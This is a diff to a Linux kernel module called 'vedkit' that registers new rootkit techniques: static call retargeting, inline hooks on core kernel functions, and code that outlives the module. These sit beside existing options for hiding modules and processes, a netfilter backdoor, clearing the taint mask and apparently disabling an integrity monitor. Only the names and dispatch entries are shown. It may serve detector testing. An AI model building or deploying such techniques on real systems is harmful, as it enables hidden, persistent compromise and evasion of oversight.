@@ -19,6 +19,10 @@
  *   clear_taint  zero the kernel's tainted_mask
  *   patch_module inline hook (jmp) in another module's function
  *   unlink_task  DKOM: a process off the task list and its pid, still running
+ *   static_call  a core static call site and its trampoline retargeted to vedkit
+ *   ved_static_call  ved's own cond_resched() static call sites retargeted to vedkit
+ *   inline_hook  jmp over the start of a core kernel function (inline_target=)
+ *   orphan_code  code copied to module-area memory that outlives vedkit (/proc/vedkit_orphan)
  *
  * See README.md for what each one does and where it works.
  */
@@ -38,7 +42,7 @@
 
 static char *techniques = "";
 module_param(techniques, charp, 0400);
-MODULE_PARM_DESC(techniques, "comma list: sct,dispatch,hide_module,ftrace_file,kprobe_port,hide_pid,nf_backdoor,clear_taint,patch_module,ved_config,ved_unlock,ved_unprobe,ved_text,unlink_task");
+MODULE_PARM_DESC(techniques, "comma list: sct,dispatch,hide_module,ftrace_file,kprobe_port,hide_pid,nf_backdoor,clear_taint,patch_module,ved_config,ved_unlock,ved_unprobe,ved_text,unlink_task,inline_hook,static_call,ved_static_call,orphan_code");
 
 char *vk_hide_prefix = "vedkit_";
 module_param_named(hide_prefix, vk_hide_prefix, charp, 0400);
@@ -180,6 +184,10 @@ static struct vk_technique vk_techniques[] = {
 	{ "nf_backdoor", vk_nf_backdoor_init, vk_nf_backdoor_exit },
 	{ "patch_module", vk_patch_module_init, vk_patch_module_exit },
 	{ "unlink_task", vk_unlink_task_init, vk_unlink_task_exit },
+	{ "static_call", vk_static_call_init, vk_static_call_exit },
+	{ "ved_static_call", vk_ved_static_call_init, vk_ved_static_call_exit },
+	{ "inline_hook", vk_inline_hook_init, vk_inline_hook_exit },
+	{ "orphan_code", vk_orphan_code_init, NULL },
 	{ "hide_module", vk_hide_module_init, NULL },
 };
 
